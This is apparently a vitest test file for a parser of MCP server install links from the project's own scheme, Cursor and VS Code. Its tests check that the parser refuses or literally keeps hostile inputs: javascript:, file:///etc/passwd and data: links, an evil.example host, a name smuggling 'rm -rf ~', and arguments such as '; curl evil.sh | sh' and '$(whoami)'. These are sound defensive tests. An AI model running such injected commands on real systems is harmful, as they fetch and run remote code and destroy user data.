import { describe, expect, it } from 'vitest';
import { MAX_DEEP_LINK_LENGTH } from './deep-link.js';
import { parseInstallLink } from './install-link.js';

const b64 = (text: string): string => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
const b64url = (text: string): string => b64(text).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
const stdio = { command: 'npx', args: ['-y', '@acme/mcp'], env: { API_KEY: 'k' } };

describe('parseInstallLink: the supported forms', () => {
  it('our own link with base64url JSON', () => {
    expect(parseInstallLink(`mcp-switchboard://install?name=acme&config=${b64url(JSON.stringify(stdio))}`)).toEqual({ kind: 'install', origin: 'switchboard', name: 'acme', config: stdio });
  });

  it("Cursor's deep link and its web form", () => {
    const cfg = encodeURIComponent(b64(JSON.stringify({ url: 'https://mcp.example.com/mcp' })));
    expect(parseInstallLink(`cursor://anysphere.cursor-deeplink/mcp/install?name=remote&config=${cfg}`)).toMatchObject({ kind: 'install', origin: 'cursor', name: 'remote', config: { url: 'https://mcp.example.com/mcp' } });
    expect(parseInstallLink(`https://cursor.com/en/install-mcp?name=remote&config=${cfg}`)).toMatchObject({ kind: 'install', origin: 'cursor' });
    expect(parseInstallLink(`https://cursor.com/install-mcp?name=remote&config=${cfg}`)).toMatchObject({ kind: 'install', origin: 'cursor' });
  });

  it("VS Code's link (name inside the JSON), its insiders scheme and the redirect forms; a foreign name is adapted", () => {
    const json = JSON.stringify({ name: 'GitHub Tools', type: 'stdio', command: 'uvx', args: ['gh-mcp'], inputs: [{ id: 'tok' }] });
    const link = `vscode:mcp/install?${encodeURIComponent(json)}`;
    const parsed = parseInstallLink(link);
    expect(parsed).toEqual({ kind: 'install', origin: 'vscode', name: 'GitHub-Tools', renamedFrom: 'GitHub Tools', config: { type: 'stdio', command: 'uvx', args: ['gh-mcp'], inputs: [{ id: 'tok' }] } });
    expect(parseInstallLink(link.replace('vscode:', 'vscode-insiders:'))).toMatchObject({ kind: 'install', origin: 'vscode' });
    expect(parseInstallLink(`https://insiders.vscode.dev/redirect?url=${encodeURIComponent(link)}`)).toMatchObject({ kind: 'install', name: 'GitHub-Tools' });
    expect(
      parseInstallLink(`https://insiders.vscode.dev/redirect/mcp/install?name=gh&config=${encodeURIComponent(JSON.stringify({ command: 'uvx' }))}`),
    ).toMatchObject({ kind: 'install', origin: 'vscode', name: 'gh', config: { command: 'uvx' } });
  });
});

describe('parseInstallLink: hostile and malformed links are refused with a reason', () => {
  const refused = (link: string) => {
    const r = parseInstallLink(link);
    expect(r.kind).toBe('invalid');
    return r.kind === 'invalid' ? r.reason : '';
  };

  it('oversized', () => {
    const big = `mcp-switchboard://install?name=x&config=${b64url(JSON.stringify({ command: 'a', args: ['x'.repeat(MAX_DEEP_LINK_LENGTH)] }))}`;
    expect(refused(big)).toBe(`link is longer than ${MAX_DEEP_LINK_LENGTH} characters`);
  });

  it('bad base64, not JSON, not an object', () => {
    expect(refused('mcp-switchboard://install?name=x&config=@@@notbase64')).toBe('install link: "config" is neither JSON nor base64-encoded JSON');
    expect(refused(`cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${b64('{"command": ')}`)).toMatch(/neither JSON nor base64/);
    expect(refused(`mcp-switchboard://install?name=x&config=${b64url('[1,2]')}`)).toBe('install link: "config" must be a JSON object');
    expect(refused('vscode:mcp/install?%7Bnot%20json')).toBe('VS Code install link: the configuration is not URL-encoded JSON');
  });

  it('javascript:, file: and data: links, and javascript: URLs inside a config', () => {
    expect(refused('javascript:alert(1)')).toMatch(/^links of scheme "javascript:" are not install links/);
    expect(refused('file:///etc/passwd')).toMatch(/^links of scheme "file:"/);
    expect(refused('data:text/html,<script>1</script>')).toMatch(/^links of scheme "data:"/);
    expect(refused(`mcp-switchboard://install?name=x&config=${b64url(JSON.stringify({ url: 'javascript:alert(1)' }))}`)).toMatch(/"url" must be http or https, not javascript/);
    expect(refused('https://evil.example/install-mcp?name=x&config=e30')).toMatch(/^not an install link/);
  });

  it('names with shell or path characters in our own links; a command and a url together', () => {
    expect(refused(`mcp-switchboard://install?name=${encodeURIComponent('x; rm -rf ~')}&config=${b64url(JSON.stringify(stdio))}`)).toMatch(/server name may only contain/);
    expect(refused(`mcp-switchboard://install?name=x&config=${b64url(JSON.stringify({ command: 'a', url: 'https://e.com' }))}`)).toMatch(/either "command"/);
    expect(refused('')).toBe('empty link');
    expect(refused('just some words')).toMatch(/^not a link/);
  });

  it('shell metacharacters in arguments are kept literally (shown as they are, never interpreted)', () => {
    const cfg = { command: 'node', args: ['server.js', '; curl evil.sh | sh', '$(whoami)', '`id`'] };
    const r = parseInstallLink(`mcp-switchboard://install?name=x&config=${b64url(JSON.stringify(cfg))}`);
    expect(r).toEqual({ kind: 'install', origin: 'switchboard', name: 'x', config: cfg });
  });
});
